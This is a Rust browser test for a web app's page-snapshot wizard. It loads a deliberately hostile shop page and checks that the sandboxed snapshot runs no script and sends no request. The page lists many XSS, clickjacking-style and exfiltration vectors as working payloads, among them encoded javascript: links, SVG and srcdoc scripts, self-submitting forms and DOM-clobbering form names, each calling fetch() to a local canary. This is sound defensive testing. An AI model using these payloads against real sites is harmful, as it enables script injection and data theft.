//! A hostile page shown in the wizard runs nothing and sends nothing, in a real Chromium.
//!
//! Every active part of the page (scripts, event handlers, `javascript:` links, frames, meta
//! refresh, SVG scripts, a self-submitting form, objects, embeds, prefetches, media, pings)
//! points at a canary server that records each request. The snapshot's policy lets a page
//! load its images, stylesheets and fonts from anywhere (so it looks like itself), so those
//! point at the canary too, under `/allowed/`: they must arrive, which proves the frame could
//! reach the canary, and nothing else may. Forms named after the document's methods would
//! shadow them for the wizard's script (`document.querySelector` becoming a form), leaving the
//! page's links clickable: that must not work either.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::http::{Method, Uri, header};
use axum::response::{Html, IntoResponse};
use axum::routing::get;
use chromiumoxide::cdp::browser_protocol::dom::{
    GetContentQuadsParams, GetDocumentParams, QuerySelectorParams, ScrollIntoViewIfNeededParams,
};
use chromiumoxide::layout::Point;
use grandma_store::{Backend, Role};

use crate::app::WebApp;
use crate::browser::{Ui, Viewport, js, ui_test};
use crate::fixture;
use crate::support::sign_in;

/// Every request the canary got: method and path with query.
type Hits = Arc<Mutex<Vec<(Method, String)>>>;

/// A 1×1 transparent PNG.
const PIXEL: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4,
    0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00,
    0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae,
    0x42, 0x60, 0x82,
];

/// A server that records every request. `/allowed/*.css` answers a stylesheet, `/allowed/*.png`
/// a picture (but `broken.png` a 404, so an `onerror` would fire), anything else a page whose
/// script would mark the window that ran it.
async fn canary() -> (SocketAddr, Hits) {
    let hits: Hits = Arc::default();
    let recorded = Arc::clone(&hits);
    let app = Router::new().fallback(move |method: Method, uri: Uri| {
        let recorded = Arc::clone(&recorded);
        async move {
            let path = uri
                .path_and_query()
                .map(|p| p.as_str().to_owned())
                .unwrap_or_default();
            recorded.lock().unwrap().push((method, path.clone()));
            if path.ends_with(".css") {
                ([(header::CONTENT_TYPE, "text/css")], "p { margin: 0 }").into_response()
            } else if path.ends_with("/broken.png") {
                axum::http::StatusCode::NOT_FOUND.into_response()
            } else if path.ends_with(".png") {
                ([(header::CONTENT_TYPE, "image/png")], PIXEL).into_response()
            } else {
                Html("<script>top.pwned = 'canary page'</script>").into_response()
            }
        }
    });
    (fixture::serve(app).await, hits)
}

/// The hostile page: every way a page can run code or send something, aimed at `c`.
fn hostile(c: &str) -> String {
    let run = |what: &str| {
        format!("fetch('{c}/active/{what}'); top.pwned = '{what}'; window.pwned = '{what}'")
    };
    format!(
        r#"<!DOCTYPE html><html onload="{html_onload}"><head>
<meta http-equiv="refresh" content="1;url={c}/active/meta-refresh">
<base href="{c}/base/">
<title>Hostile shop</title>
<script src="{c}/active/script-src.js"></script>
<script>{inline}</script>
<script type="module">{module}</script>
<link rel="stylesheet" href="{c}/allowed/link.css">
<link rel="prefetch" href="{c}/active/prefetch">
<link rel="preload" as="image" href="{c}/active/preload.png">
<link rel="modulepreload" href="{c}/active/modulepreload.js">
<link rel="import" href="{c}/active/import.html">
<link rel="icon" href="{c}/active/icon.png">
<link rel="manifest" href="{c}/active/manifest.json">
<style>@import url("{c}/allowed/import.css"); .hero {{ background: url("{c}/allowed/style-element.png"); height: 20px }}</style>
</head>
<body onload="{body_onload}" onpageshow="{pageshow}">
<h1 class="hero">Hostile shop</h1>
<meta http-equiv="refresh" content="1;url={c}/active/meta-refresh-body">
<ul class="products">
<li class="product"><span class="name">Teapot</span> <span class="price">4.50</span></li>
<li class="product"><span class="name">Kettle</span> <span class="price">9.00</span></li>
</ul>
<p><a id="js-link" href="javascript:{js_link}">A javascript: link</a></p>
<p><a id="js-link-entity" href=" &#106;avascript:{js_entity}">An encoded javascript: link</a></p>
<p><a id="data-link" href="data:text/html,&lt;script&gt;{data_link}&lt;/script&gt;">A data: link</a></p>
<p><a id="plain-link" href="{c}/active/plain-link" ping="{c}/active/ping" target="_top">A link to the canary</a></p>
<p><a id="relative-link" href="relative-link">A relative link</a></p>
<img id="img" src="{c}/allowed/img.png" alt="a picture" srcset="javascript:{srcset} 2x">
<img id="relative-img" src="allowed/relative.png" alt="a relative picture">
<img id="broken" src="{c}/allowed/broken.png" alt="broken" onerror="{onerror}">
<img alt="svg data" src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='{svg_data}'/&gt;">
<div id="styled" style="background-image: url('{c}/allowed/style-attr.png'); height: 10px">styled</div>
<div style="background-image: url('javascript:{css_js}'); width: expression({css_expression}); behavior: url('{c}/active/behavior.htc'); -moz-binding: url('{c}/active/binding.xml')">css tricks</div>
<iframe src="{c}/active/iframe"></iframe>
<iframe srcdoc="&lt;script&gt;{srcdoc}&lt;/script&gt;"></iframe>
<object data="{c}/active/object"></object>
<embed src="{c}/active/embed">
<video src="{c}/active/video.mp4" autoplay muted poster="{c}/allowed/poster.png"><source src="{c}/active/video-source.mp4"></video>
<audio src="{c}/active/audio.mp3" autoplay></audio>
<svg width="20" height="20" onload="{svg_onload}"><script>{svg_script}</script>
<image href="{c}/active/svg-image.png" width="10" height="10"/>
<a href="javascript:{svg_link}"><text y="15">svg link</text></a></svg>
<math><mi href="javascript:{math}">x</mi></math>
<noscript><img src="{c}/active/noscript.png"></noscript>
<template><img src="{c}/active/template.png"></template>
<details open ontoggle="{ontoggle}"><summary>More</summary>details</details>
<input autofocus onfocus="{onfocus}" value="focus me">
<input type="image" src="{c}/active/input-image.png" alt="image button">
<form id="form" action="{c}/active/form" method="post" target="_top">
<input name="secret" value="tea">
<button id="submit" type="submit">Send the form</button>
<button id="formaction" formaction="{c}/active/formaction" formmethod="post">Send elsewhere</button>
</form>
<script>document.getElementById('form').submit()</script>
<form name="addEventListener"></form><form name="createElement"></form><form name="querySelector"></form><form name="head"></form>
<map name="m"><area href="javascript:{area}" shape="rect" coords="0,0,10,10" alt="area"></map>
</body></html>"#,
        html_onload = run("html-onload"),
        inline = run("inline-script"),
        module = run("module-script"),
        body_onload = run("body-onload"),
        pageshow = run("pageshow"),
        js_link = run("js-link"),
        js_entity = run("js-link-entity"),
        data_link = run("data-link"),
        srcset = run("srcset"),
        onerror = run("onerror"),
        svg_data = run("svg-data"),
        css_js = run("css-javascript-url"),
        css_expression = run("css-expression"),
        srcdoc = run("srcdoc"),
        svg_onload = run("svg-onload"),
        svg_script = run("svg-script"),
        svg_link = run("svg-link"),
        math = run("math-link"),
        ontoggle = run("ontoggle"),
        onfocus = run("onfocus"),
        area = run("area-link"),
    )
}

/// What the policy lets through, and only this: images and stylesheets the page names.
fn allowed(method: &Method, path: &str) -> bool {
    method == Method::GET && (path.starts_with("/allowed/") || path.starts_with("/base/allowed/"))
}

/// The loads that must arrive: they prove the frame could reach the canary at all.
const EXPECTED: &[&str] = &[
    "/allowed/link.css",
    "/allowed/import.css",
    "/allowed/style-element.png",
    "/allowed/img.png",
    "/base/allowed/relative.png",
    "/allowed/style-attr.png",
];

fn check_canary(hits: &Hits, expected: &[&str]) {
    let hits = hits.lock().unwrap().clone();
    let refused: Vec<_> = hits.iter().filter(|(m, p)| !allowed(m, p)).collect();
    assert!(
        refused.is_empty(),
        "the canary got {refused:?} (all: {hits:?})"
    );
    for path in expected {
        assert!(
            hits.iter().any(|(_, p)| p == path),
            "{path} never reached the canary: {hits:?}"
        );
    }
}

/// Nothing of the page ran in the window `window` names (a JavaScript expression).
async fn untouched(ui: &Ui, window: &str) {
    let pwned: String = ui
        .eval(&format!(
            "(() => {{ const w = {window}; return String(w.pwned ?? ''); }})()"
        ))
        .await;
    assert_eq!(pwned, "", "a script of the page ran in {window}");
}

/// Clicks with the mouse the element `css` matches in a page where no script may run.
async fn click_without_scripts(ui: &Ui, css: &str) {
    let document = ui
        .page
        .execute(GetDocumentParams::default())
        .await
        .expect("the document");
    let node = ui
        .page
        .execute(QuerySelectorParams::new(document.result.root.node_id, css))
        .await
        .expect("query")
        .result
        .node_id;
    ui.page
        .execute(
            ScrollIntoViewIfNeededParams::builder()
                .node_id(node)
                .build(),
        )
        .await
        .expect("scroll");
    let quads = ui
        .page
        .execute(GetContentQuadsParams::builder().node_id(node).build())
        .await
        .expect("where it is")
        .result
        .quads;
    let quad = quads
        .first()
        .unwrap_or_else(|| panic!("{css} is not shown"));
    let q = quad.inner();
    let x = (q[0] + q[2] + q[4] + q[6]) / 4.0;
    let y = (q[1] + q[3] + q[5] + q[7]) / 4.0;
    ui.page.click(Point { x, y }).await.expect("click");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_page_runs_nothing_and_sends_nothing() {
    let (canary_addr, hits) = canary().await;
    let page = hostile(&format!("http://{canary_addr}"));
    let site = fixture::serve(Router::new().route(
        "/hostile",
        get(move || {
            let page = page.clone();
            async move { Html(page) }
        }),
    ))
    .await;
    let app = WebApp::start(Backend::Sqlite).await;
    app.account("grandma@example.com", Role::User).await;
    let hits_seen = Arc::clone(&hits);
    ui_test("snapshot_inert", &app.url(""), Viewport::Desktop, |ui| async move {
        sign_in(&ui, "grandma@example.com").await;
        ui.goto("/jobs/new").await;
        let title: String = ui.eval("document.title").await;
        ui.fill("#page-url", &format!("http://{site}/hostile")).await;
        ui.select("#fetcher", "requests").await;
        ui.click("#show-page").await;
        ui.wait_until(
            "(() => { const d = document.getElementById('snapshot').contentDocument; \
             return !!(d && d.querySelector('.product [data-gs-node]')); })()",
        )
        .await;
        let view: String = ui.eval("document.getElementById('snapshot').src").await;
        // Let it sit: the refresh was due after a second, handlers on load at once.
        tokio::time::sleep(Duration::from_millis(1500)).await;
        // A person's clicks and keys on the active parts.
        for target in ["#js-link", "#js-link-entity", "#data-link", "#plain-link", "#relative-link", "#submit", "#formaction"] {
            ui.click_in_frame("#snapshot", target).await;
        }
        for target in ["#submit", "#js-link"] {
            ui.eval::<bool>(&format!(
                "(() => {{ document.getElementById('snapshot').contentDocument.querySelector({}).focus(); return true; }})()",
                js(target)
            ))
            .await;
            ui.press("Enter").await;
        }
        // And scripts of the wizard's window submitting the form outright, past the submit event
        // (through the prototype: the form's button named `submit` shadows the method).
        ui.eval::<bool>(
            "(() => { const d = document.getElementById('snapshot').contentDocument; \
             HTMLFormElement.prototype.submit.call(d.getElementById('form')); return true; })()",
        )
        .await;
        tokio::time::sleep(Duration::from_millis(1000)).await;
        check_canary(&hits_seen, EXPECTED);
        untouched(&ui, "window").await;
        untouched(&ui, "document.getElementById('snapshot').contentWindow").await;
        assert_eq!(ui.eval::<String>("document.title").await, title);
        assert_eq!(ui.path().await, "/jobs/new");
        let frame_at: String = ui
            .eval("document.getElementById('snapshot').contentWindow.location.href")
            .await;
        assert_eq!(frame_at, view, "the frame stayed on the snapshot");
        let left: Vec<String> = ui
            .eval(
                "[...document.getElementById('snapshot').contentDocument.querySelectorAll(\
                 'script, iframe, object, embed, svg, math, noscript, template, audio, \
                 meta[http-equiv], [onerror], [onload], [ontoggle], [onfocus], [formaction], \
                 [action], [ping], [srcdoc]')].map(e => e.outerHTML)",
            )
            .await;
        assert!(left.is_empty(), "{left:?}");

        // The snapshot opened on its own in a tab: no wizard, no sandboxed frame around it. Its
        // policy's sandbox leaves no script context in it, not even for the test's: the clicks
        // go through the DOM and input domains of the protocol.
        ui.page.goto(view.as_str()).await.expect("open the snapshot");
        tokio::time::sleep(Duration::from_millis(1000)).await;
        for target in ["#js-link", "#js-link-entity", "#data-link", "#submit", "#formaction"] {
            click_without_scripts(&ui, target).await;
        }
        tokio::time::sleep(Duration::from_millis(1000)).await;
        check_canary(&hits_seen, &[]);
        let at = ui.page.url().await.expect("the tab's address");
        assert_eq!(at.as_deref(), Some(view.as_str()), "nothing navigated the snapshot away");
    })
    .await;
    app.finish().await;
}
